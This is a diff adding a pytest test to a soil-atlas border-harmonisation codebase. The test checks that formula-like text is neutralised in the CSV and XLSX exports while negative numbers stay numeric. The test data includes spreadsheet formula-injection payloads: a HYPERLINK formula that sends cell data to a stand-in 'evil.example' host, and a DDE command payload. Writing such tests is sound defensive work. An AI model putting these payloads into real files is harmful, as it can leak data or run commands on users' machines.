@@ -132,3 +132,94 @@ def test_case_g_overlapping_reference_territories_count_once(programme):
         assert "AAA" in f.message and "BBB" in f.message
         assert f.observed["area_km2"] == pytest.approx(area_km2([strip])[0], rel=1e-4)
         assert f.observed["counted_for"] == "AAA"
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _live_csv_cells(path) -> list[str]:
+    """Cells of a CSV file a spreadsheet would run: text starting like a formula that is not a plain number."""
+    import csv
+    import re
+
+    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+    with open(path, newline="", encoding="utf-8") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    return [c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)]
+
+
+def _live_xlsx_cells(path) -> list:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(path)
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_START))]
+
+
+def test_case_k_country_text_never_reaches_a_spreadsheet_as_a_formula(tmp_path, programme):
+    """Unit ids, class names and legend text starting with = + - @ are written as text in every CSV and XLSX."""
+    import pandas as pd
+
+    from atlas.borders.adjacency import adjacency
+    from atlas.borders.edges import border_mismatches
+    from atlas.borders.vector import harmonize_region
+    from atlas.ledger.accuracy import write_accuracy_table
+    from atlas.products.area_stats import write_area_tables
+    from atlas.products.soil_atlas import write_soil_atlas
+    from checks.crosswalk import read_crosswalk, template_csv
+
+    # west of Greenwich, so lon values are negative numbers that must stay numbers
+    bnd = _territories(AAA=shapely.box(-2.0, 0.0, -1.0, 1.0), BBB=shapely.box(-1.0, 0.0, 0.0, 1.0))
+    a = gpd.GeoDataFrame({"unit_id": [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"], "rsg1": ["CM", "LP"], "share1": 100,
+                          "note": ["+1+2", "\tTAB"]},
+                         geometry=[shapely.box(-2.0, 0.0, -1.0, 0.5), shapely.box(-2.0, 0.5, -0.98, 1.0)],
+                         crs="EPSG:4326")
+    b = gpd.GeoDataFrame({"unit_id": ["-2+3", "-7"], "rsg1": ["FL", "AC"], "share1": 100},
+                         geometry=[shapely.box(-1.0, 0.0, 0.0, 0.5), shapely.box(-1.0, 0.5, 0.0, 1.0)],
+                         crs="EPSG:4326")
+    res = harmonize_region({"AAA": a, "BBB": b}, bnd, programme)
+    seg, summary = border_mismatches(res.region, bnd, adjacency(bnd), programme)
+    paths = write_soil_atlas(res, {"AAA": 1, "BBB": 1}, tmp_path / "atlas", seg, summary)
+    mismatches = pd.read_csv(paths["border_mismatches"])
+    assert len(mismatches) == 2 and f"'{HOSTILE}" in set(mismatches["unit_a"])
+    assert "'-2+3" in set(mismatches["unit_b"])
+    assert mismatches["lon"].dtype == float and (mismatches["lon"] < 0).all()  # numbers stay numbers
+    log = pd.read_csv(paths["harmonization_log"])
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in set(log["unit_id"]) and (log["lon"] < 0).all()
+    for name in ("border_mismatches", "harmonization_log", "border_summary"):
+        assert _live_csv_cells(paths[name]) == [], name
+
+    areas = pd.DataFrame({"iso3": ["AAA", "BBB"], "class_name": [HOSTILE, "\rCR"], "area_km2": [-1.5, 2.0]})
+    tables = write_area_tables({"salinity_class_areas": areas}, tmp_path / "tables")
+    assert _live_csv_cells(tables["salinity_class_areas"]) == []
+    assert _live_xlsx_cells(tables["xlsx"]) == []
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(tables["xlsx"])["salinity_class_areas"]
+    assert sheet["B2"].value == f"'{HOSTILE}" and sheet["C2"].value == -1.5  # text shown as text, number a number
+
+    rows = [{"country": "AAA", "country_name": "A", "version": 1, "layer": HOSTILE, "depth": "0-30",
+             "statistic": "+RMSE", "value": -0.25}]
+    for path in write_accuracy_table(rows, tmp_path / "accuracy"):
+        live = _live_csv_cells(path) if path.suffix == ".csv" else _live_xlsx_cells(path)
+        assert live == [], path.name
+
+    # the crosswalk template goes to the country and comes back: neutralised on the way out, plain on the way in
+    text = template_csv([{"legacy_class": "=1+2", "legend": "national legend", "features": 1, "area_km2": 1.0,
+                          "suggested_rsg": "", "suggested_name": "", "rsg_code": ""}])
+    assert "'=1+2" in text
+    filled = tmp_path / "crosswalk.csv"
+    filled.write_text(text.replace("'=1+2,national legend,1,1.0,,,", "'=1+2,national legend,1,1.0,,,CM"),
+                      encoding="utf-8")
+    assert read_crosswalk(filled).targets == {"=1+2": "CM"}
+
+    # the status table: a name is text, whoever wrote it
+    from atlas.ledger.exports import write_csv, write_xlsx
+    from atlas.ledger.schema import StatusRow
+
+    status = [StatusRow("AAA", HOSTILE, "soil_map", "accepted", 1, dt.date(2026, 4, 10), None, 1, 1, None,
+                        dt.date(2026, 6, 30), False, best_state="accepted", best_version=1,
+                        best_received=dt.date(2026, 4, 10))]
+    assert _live_csv_cells(write_csv(status, tmp_path / "status.csv")) == []
+    assert _live_xlsx_cells(write_xlsx(status, tmp_path / "status.xlsx", programme, dt.date(2026, 5, 1))) == []
